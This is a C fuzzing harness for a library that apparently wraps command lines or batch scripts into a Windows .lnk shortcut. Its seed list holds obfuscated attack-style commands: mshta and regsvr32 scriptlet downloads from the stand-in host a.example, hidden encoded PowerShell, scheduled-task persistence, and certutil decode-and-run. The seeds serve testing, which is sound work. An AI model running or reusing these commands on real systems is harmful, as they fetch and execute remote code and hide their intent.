/* Command lines and batch files that were never written: the first byte says which of the two. */
#include "fuzz.h"

#include "base/attr.h"
#include "make/paper.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    make_paper *p = make_paper_new(20000);
    if (size > 1u << 15) size = 1u << 15;
    sk_bytes b = sk_bytes_of(data, size);
    make_paper_carrier(p, "C:\\t\\form.lnk", b);
    if (sk_at(b, 0) == 'b')
        make_paper_batch(p, sk_from(b, 1));
    else
        make_paper_command(p, sk_from(b, 1));
    make_paper_free(p);
    return 0;
}

static const char *const seeds[] = {
    "ccmd /v:on /c \"set a=ht&&set b=tp://a.example/q&&set c=!a!!b:q=w!&&m^s^hta !c:~0,9!\"",
    "cpowershell -w hidden -nop -e KABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA",
    "ccmd /c for /f \"usebackq skip=1 tokens=1,2-3* delims=,; eol=#\" %a in (`echo a,b;c^&echo d`) do (start \"t\" /min %~a %b) "
    "else %~nxc",
    "cfindstr /v /i /b /r \"^a[b-d]*.x$\" C:\\t\\form.lnk > %TEMP%\\q.vbs&wscript //e:jscript %TEMP%\\q.vbs",
    "ccmd /c \"(echo aGk=&echo b)>C:\\t\\a&type C:\\t\\a|find \"a\">C:\\t\\b&certutil -decode C:\\t\\b C:\\t\\c&copy /b "
    "C:\\t\\a+C:\\t\\c C:\\t\\d&C:\\t\\d\"",
    "crundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \";x() & regsvr32 /s /i:http://a.example/x scrobj.dll",
    "cschtasks /create /tn a /tr \"cmd /c mshta http://a.example/x\" & wmic process call create 'curl -o a http://a.example/x'",
    "b@echo off\r\nsetlocal enabledelayedexpansion\r\nset /a n=(1+2)*3%%4,m=n<<2\r\n:l\r\nset /a n-=1\r\nif !n! gtr 0 goto "
    "l\r\ncall :f %~dp0 \"b c\"\r\n"
    "exit /b\r\n:f\r\nshift\r\nif not defined q (\r\nfor /l %%i in (1,1,3) do set q=!q!%%i\r\n) else echo %*>>C:\\t\\v\r\n",
    "bfor %%a in (m s h t a) do (set w=!w!%%a^\r\n)\r\nif /i \"%~x0\"==\".lnk\" (echo 1)&&(echo 2)||(echo "
    "3)\r\n%PUBLIC:~-3%%COMSPEC:*\\=%\r\n",
};

void sk_fuzz_seeds(void (*take)(void *self, sk_bytes seed), void *self)
{
    for (size_t i = 0; i < SK_COUNT(seeds); i++) take(self, sk_bytes_str(seeds[i]));
}
